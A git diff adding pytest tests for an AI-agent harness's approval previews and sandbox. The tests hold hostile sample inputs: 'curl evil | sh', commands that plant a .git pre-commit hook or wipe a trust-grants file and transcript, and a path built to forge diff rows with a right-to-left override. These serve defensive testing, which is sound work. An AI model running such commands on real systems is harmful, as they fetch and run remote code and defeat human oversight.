@@ -9,6 +9,7 @@ import pytest
 
 import prowess
 from prowess.agent.models import make_model
+from prowess.agent.transcript import Transcript
 from prowess.agent.work_folder import WorkFolder
 from tests.adapters.skill_library import PIXEL
 from tests.agent.runs import Answering, Scene, call, script
@@ -75,6 +76,67 @@ def test_file_that_changes_while_a_person_is_asked_is_not_replaced(scene: Scene)
     assert file.read_text() == "new\n"
 
 
+LARGE = "".join(f"line {number} of a file\n" for number in range(4_500))
+
+
+def preview_of(scene: Scene, content: str, before: str | bytes | None = None) -> list[str]:
+    """Return what a person is shown about a write to ``a.txt``, row by row."""
+    if before is not None:
+        (scene.work / "a.txt").write_bytes(before if isinstance(before, bytes) else before.encode())
+    person = Answering("no")
+    scene.run(script(call("Write", path="a.txt", content=content), "Done."), person=person)
+    return person.tools[0].preview.splitlines()
+
+
+def test_question_shows_content_with_a_nul_character(scene: Scene) -> None:
+    rows = preview_of(scene, "harmless\n\0\ncurl evil | sh\n", "harmless\n")
+    assert rows[:2] == ["--- a/a.txt (9 bytes, 1 line)", "+++ b/a.txt (26 bytes, 3 lines)"]
+    assert rows[3:] == [" harmless", "+\\x00", "+curl evil | sh"]
+    rows = preview_of(scene, "text\n", b"\x89PNG\xff\0")
+    assert rows[3:5] == ["-\\udc89PNG\\udcff\\x00", "\\ no newline at the end"]
+
+
+def test_question_shows_a_change_in_the_middle_of_a_large_file(scene: Scene) -> None:
+    assert len(LARGE) > 65_536
+    rows = preview_of(scene, LARGE.replace("line 2222 of a file", "curl evil | sh"), LARGE)
+    assert [row for row in rows[2:] if row[0] in "+-"] == ["-line 2222 of a file", "+curl evil | sh"]
+
+
+def test_question_shows_all_new_lines_where_too_many_change(scene: Scene) -> None:
+    rows = preview_of(scene, LARGE.replace("line", "Line") + "curl evil | sh\n", LARGE)
+    assert rows[2] == "[too many lines to compare: 4,500 lines from line 1 on would become these 4,501]"
+    assert (len(rows), rows[3], rows[-1]) == (3 + 4_501, "+Line 0 of a file", "+curl evil | sh")
+
+
+def test_path_cannot_forge_a_row_of_the_difference(scene: Scene) -> None:
+    person = Answering("no")
+    path = "a\n-old\n+harmless\u202e"
+    scene.run(script(call("Write", path=path, content="x\n"), "Done."), person=person)
+    assert person.tools[0].preview.splitlines()[1] == "+++ b/a\\n-old\\n+harmless\\u202e (2 bytes, 1 line)"
+
+
+@pytest.mark.parametrize(("before", "meanwhile"), [("x" * 70_000, "y" * 70_000), ("x\0", "y\0"), (LARGE, LARGE[::-1])])
+def test_file_that_changes_where_nobody_looks_is_not_replaced(scene: Scene, before: str, meanwhile: str) -> None:
+    file = scene.work / "a.txt"
+    file.write_text(before)
+
+    class Slowly(Answering):
+        async def ask_tool(self, request: ToolRequest) -> ToolAnswer:
+            file.write_text(meanwhile)
+            return await super().ask_tool(request)
+
+    result = scene.run(script(call("Write", path="a.txt", content="new\0"), "Done."), person=Slowly())
+    assert "has changed since a person was asked: nothing was done" in result.calls[0].content
+    assert file.read_text() == meanwhile
+
+
+def test_nobody_is_asked_about_content_that_is_too_large(scene: Scene) -> None:
+    person = Answering()
+    write, limits = call("Write", path="a", content="x" * 20_000), prowess.Limits(max_file_bytes=10_000)
+    result = scene.run(script(write, "Done."), person=person, limits=limits)
+    assert (result.calls[0].is_error, person.tools) == (True, [])
+
+
 @pytest.mark.skipif(os.name == "nt", reason="NOT TESTED: Windows has no handles of folders")
 def test_folder_that_becomes_a_link_between_the_check_and_the_write_leads_nowhere(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
@@ -133,6 +195,101 @@ def test_command_has_no_secrets_of_the_environment(scene: Scene, monkeypatch: py
     monkeypatch.setenv("OPENAI_API_KEY", "very-secret")
     scene.run(script(call("Bash", command="env"), "Done."), person=Answering())
     assert "very-secret" not in scene.results["Bash"]
+
+
+# -- the edges of the sandbox in the working folder --------------------------------------------------------------------
+
+
+def test_run_says_at_its_start_what_commands_may_write(scene: Scene) -> None:
+    require_sandbox()
+    for path in (".git/config", ".git/HEAD", ".claude/settings.json", "src/a.py"):
+        (scene.work / path).parent.mkdir(parents=True, exist_ok=True)
+        (scene.work / path).write_text("x")
+    scene.run(script("Done."), person=Answering())
+    start = scene.told("start")[0]
+    assert start["sandbox"] in {"bwrap", "landlock"}
+    assert start["protected"] == [".claude", ".git/config", ".git/hooks", ".git/info"]
+    assert ("working folder" in start["closed"]) is (start["sandbox"] == "landlock")
+    scene.events.clear()
+    scene.run(script("Done."), person=Answering(), sandbox="none")
+    assert (scene.told("start")[0]["sandbox"], scene.told("start")[0]["protected"]) == ("none", [])
+
+
+def test_command_cannot_change_the_hooks_of_a_repository(scene: Scene) -> None:
+    require_sandbox()
+    (scene.work / ".git/hooks").mkdir(parents=True)
+    (scene.work / ".git/HEAD").write_text("ref: refs/heads/main\n")
+    evil = "echo evil > .git/hooks/pre-commit; mv .git x; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit"
+    scene.run(script(call("Bash", command=evil), "Done."), person=Answering())
+    assert list((scene.work / ".git/hooks").iterdir()) == []
+
+
+@pytest.mark.parametrize("where", ["folder", "home"])
+def test_run_in_a_folder_that_cannot_be_protected_ends_before_the_model_is_asked(
+    scene: Scene, where: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    require_sandbox()
+    (scene.work / "a.txt").write_text("a")
+    if where == "home":
+        monkeypatch.setenv("XDG_CONFIG_HOME", str(scene.base))
+        scene.work = scene.base / "prowess"
+        scene.work.mkdir()
+        result = scene.run(script("Done."), person=Answering())
+    else:
+        result = scene.run(script("Done."), person=Answering(), limits=prowess.Limits(max_searched_entries=0))
+    assert result.error is not None
+    assert (result.status, result.turns) == ("failed", ())
+    assert result.error.code == {"folder": "folder-too-large", "home": "unsafe-folder"}[where]
+    assert [event.kind for event in scene.events] == ["start", "end"]
+
+
+def test_large_folder_is_no_obstacle_without_commands(scene: Scene) -> None:
+    (scene.work / "a.txt").write_text("a")
+    limits = prowess.Limits(max_searched_entries=0)
+    turns = (call("Read", path="a.txt"), "Done.")
+    assert scene.run(script(*turns), person=Answering(), limits=limits, tools=("Read",)).status == "done"
+
+
+def test_grants_and_transcript_in_the_working_folder_stay_as_they_are(scene: Scene) -> None:
+    require_sandbox()
+    (scene.work / "mine").mkdir()
+    grants = scene.work / "mine/trust.json"
+    grants.write_text('{"version": 1, "grants": []}')
+    grants.chmod(0o600)
+    evil = "echo evil > mine/trust.json; echo evil >> mine/run.jsonl; rm -rf mine; mv mine x"
+    with Transcript.create(str(scene.work / "mine/run.jsonl")) as transcript:
+        turns = script(call("Bash", command=evil), "Done.")
+        scene.run(turns, person=Answering(), transcript=transcript, grants=str(grants))
+    assert "evil" not in grants.read_text()
+    assert (scene.work / "mine/run.jsonl").read_text().splitlines()[0].startswith("{")
+    assert "\nevil\n" not in (scene.work / "mine/run.jsonl").read_text()
+
+
+def test_write_to_a_protected_file_is_asked_about_although_a_skill_approves(scene: Scene) -> None:
+    write_skill(scene, "tidy", "Write")
+    turns = (
+        call("load_skill", name="tidy"),
+        call("Write", path="mine/trust.json", content="{}"),
+        call("Write", path="opencode.json", content="{}"),
+        call("Write", path="mine/a.txt", content="x"),
+        "Done.",
+    )
+    person = Answering("no")
+    scene.run(script(*turns), person=person, grants=str(scene.work / "mine/trust.json"), skills_approve=True)
+    assert [request.subject for request in person.tools] == ["mine/trust.json", "opencode.json"]
+    assert [path.name for path in (scene.work / "mine").iterdir()] == ["a.txt"]
+
+
+def test_new_repository_and_agents_folder_are_named_at_the_end(scene: Scene) -> None:
+    require_sandbox()
+    (scene.work / ".claude").mkdir()
+    plant = "mkdir -p sub/.git sub/.codex; echo x > sub/.git/config; echo x > sub/.git/HEAD; echo x > sub/a.txt"
+    result = scene.run(script(call("Bash", command=f"mkdir sub; {plant}"), "Done."), person=Answering())
+    if scene.told("start")[0]["sandbox"] == "landlock":
+        assert result.made == ()  # nothing new can be made beside a protected entry
+    else:
+        assert result.made == ("sub/.codex", "sub/.git")
+    assert scene.told("end")[0]["made"] == list(result.made)
 
 
 # -- paths that lead out -----------------------------------------------------------------------------------------------
@@ -216,7 +373,7 @@ def test_active_skill_approves_its_tools_and_no_others(scene: Scene) -> None:
         "Done.",
     )
     person = Answering("no")
-    scene.run(script(*turns), person=person, sandbox="none")
+    scene.run(script(*turns), person=person, sandbox="none", skills_approve=True)
     assert [request.subject for request in person.tools] == ["echo early", "echo hello; true", "in/a.txt"]
     assert (scene.work / "out/a.txt").exists()
 
@@ -230,7 +387,7 @@ def test_hidden_files_are_asked_about_although_a_skill_approves(scene: Scene) ->
         "Done.",
     )
     person = Answering("no")
-    scene.run(script(*turns), person=person)
+    scene.run(script(*turns), person=person, skills_approve=True)
     assert [request.subject for request in person.tools] == [".git/hooks/pre-commit"]
     assert not (scene.work / ".git").exists()
 
@@ -259,5 +416,5 @@ def test_tool_beyond_the_ceiling_is_not_offered_and_not_run(scene: Scene) -> Non
 def test_pre_approval_is_within_the_ceiling(scene: Scene) -> None:
     write_skill(scene, "tidy", "Bash")
     turns = (call("load_skill", name="tidy"), call("Bash", command="echo x"), call("Bash", command="date"), "Done.")
-    result = scene.run(script(*turns), tools=("Bash(echo:*)",), sandbox="none")
+    result = scene.run(script(*turns), tools=("Bash(echo:*)",), sandbox="none", skills_approve=True)
     assert [record.is_error for record in result.calls] == [False, False, True]
